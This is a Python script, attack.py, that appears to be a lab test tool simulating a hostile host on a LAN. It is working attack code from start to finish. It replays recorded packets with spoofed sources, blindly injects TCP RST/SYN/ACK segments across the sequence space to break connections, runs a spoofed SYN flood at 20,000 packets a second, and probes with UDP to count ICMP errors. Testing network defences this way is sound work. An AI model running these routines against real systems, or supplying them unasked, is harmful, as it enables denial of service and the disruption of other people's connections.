#!/usr/bin/env python3
"""What a stranger on the LAN sends. Runs as root in a namespace of the lab, and nowhere else.

  attack.py replay PCAP SECONDS             datagrams of a recording again, every one as it was
  attack.py blind FROM PORT TO PORT         segments of a connection of which only the four-tuple is known
  attack.py flood PREFIX TO PORT SECONDS    SYNs of PREFIX101 to PREFIX250, 20,000 a second
  attack.py datagrams TO COUNT              datagrams to a port that nobody has; prints the answers
"""

import random
import socket
import struct
import sys
import time

ACK, RST, SYN = 0x10, 0x04, 0x02


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def segment(source, destination, seq, ack, flags):
    """An IPv4 packet with a TCP header; the ends are pairs of a packed address and a port."""
    (ours, port), (theirs, their_port) = source, destination
    seq, ack = seq % 2**32, ack % 2**32
    tcp = struct.pack("!HHIIBBHHH", port, their_port, seq, ack, 5 << 4, flags, 1000, 0, 0)
    check = checksum(ours + theirs + struct.pack("!HH", 6, len(tcp)) + tcp)
    tcp = tcp[:16] + struct.pack("!H", check) + tcp[18:]
    # The kernel fills in length and checksum.
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, 6, 0, ours, theirs) + tcp


def raw():
    return socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)


def end(address, port):
    return socket.inet_aton(address), int(port)


def replay(file, seconds):
    """Source address and port are those of the recording, too."""
    with open(file, "rb") as opened:
        data = opened.read()
    at, packets = 24, []
    while at < len(data):
        length = struct.unpack("<8xI4x", data[at : at + 16])[0]
        packet = data[at + 30 : at + 16 + length]
        # Where it was recorded, its checksum was still to be made; 0 is none.
        packets.append(packet[:26] + b"\0\0" + packet[28:])
        at += 16 + length
    assert packets, "nothing was recorded"
    out, until, sent = raw(), time.monotonic() + float(seconds), 0
    while time.monotonic() < until:
        packet = packets[sent % len(packets)]
        out.sendto(packet, (socket.inet_ntoa(packet[16:20]), 0))
        sent += 1
        time.sleep(0.01)


def blind(ours, port, theirs, their_port):
    """ACK, RST and SYN at every 2^24th sequence number."""
    source, destination = end(ours, port), end(theirs, their_port)
    out, base = raw(), random.randrange(1 << 24)
    for step in range(256):
        seq = base + (step << 24)
        for ack, flags in ((12345, ACK), (0, RST), (0, SYN)):
            out.sendto(segment(source, destination, seq, ack, flags), (theirs, 0))


def flood(prefix, theirs, their_port, seconds):
    """Every source has its turn, with a port that it has not used."""
    out, destination = raw(), end(theirs, their_port)
    began, sent = time.monotonic(), 0
    while (passed := time.monotonic() - began) < float(seconds):
        for _ in range(int(passed * 20_000) - sent):
            source = end(prefix + str(101 + sent % 150), 1024 + sent // 150)
            out.sendto(segment(source, destination, sent * 7919, 0, SYN), (theirs, 0))
            sent += 1
        time.sleep(0.001)
    print(sent)


def datagrams(theirs, count):
    six = ":" in theirs
    family = socket.AF_INET6 if six else socket.AF_INET
    errors = socket.socket(family, socket.SOCK_RAW, 58 if six else 1)
    errors.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 22)
    out = socket.socket(family, socket.SOCK_DGRAM)
    for _ in range(int(count)):
        try:
            out.sendto(b"anybody?", (theirs, 53))
        except ConnectionRefusedError:
            pass
    errors.settimeout(0.2)
    answers = 0
    try:
        while True:
            packet = errors.recv(2048)
            # IPv6: port unreachable; IPv4: the same behind the IP header.
            answers += packet[:2] == b"\x01\x04" if six else packet[20:22] == b"\x03\x03"
    except TimeoutError:
        print(answers)


if __name__ == "__main__":
    {"replay": replay, "blind": blind, "flood": flood, "datagrams": datagrams}[sys.argv[1]](*sys.argv[2:])
